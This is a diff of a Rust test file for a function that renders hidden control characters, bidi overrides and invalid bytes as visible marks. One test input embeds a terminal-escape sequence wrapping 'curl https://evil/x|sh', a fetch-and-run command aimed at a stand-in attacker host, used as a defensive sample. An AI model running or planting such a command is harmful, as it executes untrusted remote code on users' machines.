@@ -29,10 +29,10 @@ fn what_nobody_sees_becomes_a_mark() {
         ("é 日本 ≠ \u{a0}", "é 日本 ≠ \u{a0}", 0),
         (
             "+: \u{1b}];curl https://evil/x|sh #\u{7}",
-            "+: ␛];curl https://evil/x|sh #␇",
+            "+: ⟨ESC⟩];curl https://evil/x|sh #⟨BEL⟩",
             2,
         ),
-        ("\0\u{8}\u{1f}\u{7f}", "␀␈␟␡", 4),
+        ("\0\u{8}\u{1f}\u{7f}", "⟨NUL⟩⟨BS⟩⟨US⟩⟨DEL⟩", 4),
         ("a\u{9b}31m\u{85}", "a⟨U+009B⟩31m⟨U+0085⟩", 2),
         ("if a\u{202e}b\u{2066}", "if a⟨U+202E⟩b⟨U+2066⟩", 2),
         (
@@ -71,7 +71,7 @@ fn what_nobody_sees_becomes_a_mark() {
             "⟨U+FDD0⟩⟨U+FDE0⟩⟨U+10FFFF⟩",
             3,
         ),
-        ("10%\r20%\r\ndone\r", "10%␍20%␍\ndone␍", 2),
+        ("10%\r20%\r\ndone\r", "10%⟨CR⟩20%⟨CR⟩\ndone⟨CR⟩", 2),
     ] {
         assert_eq!(shown(text), expected, "{text:?}");
         assert_eq!(count(text), count_of, "{text:?}");
@@ -129,7 +129,7 @@ fn a_mark_says_its_name() {
 #[test]
 fn a_file_keeps_bytes_that_are_no_text() {
     let file = FileText::of(b"caf\xe9\r\n\xff\r\xf0\x9f\n");
-    assert_eq!(file.shown(), "caf⟨0xE9⟩␍\n⟨0xFF⟩␍⟨0xF0⟩⟨0x9F⟩\n");
+    assert_eq!(file.shown(), "caf⟨0xE9⟩⟨CR⟩\n⟨0xFF⟩⟨CR⟩⟨0xF0⟩⟨0x9F⟩\n");
     assert_eq!(file.count(), 5);
     assert_eq!(file.as_str().lines().count(), 2);
     // It cannot speak of bytes that it does not have.
@@ -158,14 +158,14 @@ fn values_keep_what_json_would_spell_or_hide() {
     let text = pretty(&value);
     assert_eq!(
         shown(&text),
-        "{\n  \"a⟨U+200B⟩\": [\n    \"␛[8m␍\",\n    \"two\\nlines\",\n    {\n      \"b\": \"⟨U+202E⟩␡␈␌\"\n    }\n  ],\n  \"n\": 1\n}"
+        "{\n  \"a⟨U+200B⟩\": [\n    \"⟨ESC⟩[8m⟨CR⟩\",\n    \"two\\nlines\",\n    {\n      \"b\": \"⟨U+202E⟩⟨DEL⟩⟨BS⟩⟨FF⟩\"\n    }\n  ],\n  \"n\": 1\n}"
     );
     assert_eq!(pretty(&json!({})), "{}");
 }
 
 #[test]
 fn one_line_stays_one() {
-    assert_eq!(shown_in_line("a\r\nb\tc\u{2028}d"), "a␍ b c⟨U+2028⟩d");
+    assert_eq!(shown_in_line("a\r\nb\tc\u{2028}d"), "a⟨CR⟩ b c⟨U+2028⟩d");
 }
 
 /// Text in which the odd is frequent.
